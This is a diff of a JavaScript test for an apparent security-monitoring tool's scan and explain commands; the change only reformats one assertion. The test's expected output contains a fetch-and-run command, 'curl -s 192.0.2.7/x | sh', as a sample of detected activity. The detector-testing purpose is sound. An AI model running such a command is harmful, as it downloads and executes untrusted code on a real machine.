@@ -144,7 +144,10 @@ test('what the agent of a tree noticed names the chain and the door, and what wa
     ['/dev/shm/gone'],
   )
   const { stdout } = tree.davylamp(['scan', '--root', tree.root])
-  assert.match(stdout, /Noticed before, and not there now\n {2}- .*\/dev\/shm\/gone[^;]*; its\s+start\s+was\s+prevented/)
+  assert.match(
+    stdout,
+    /Noticed before, and not there now\n {2}- .*\/dev\/shm\/gone[^;]*; its\s+start\s+was\s+prevented/,
+  )
   const explained = tree.davylamp(['explain', '--root', tree.root, incident.id]).stdout
   assert.match(explained, /Noticed as it happened\n[\s\S]*└ sh -c curl -s 192\.0\.2\.7\/x \| sh \(pid 4710\)/)
   const page = join(tree.folder, 'report.html')
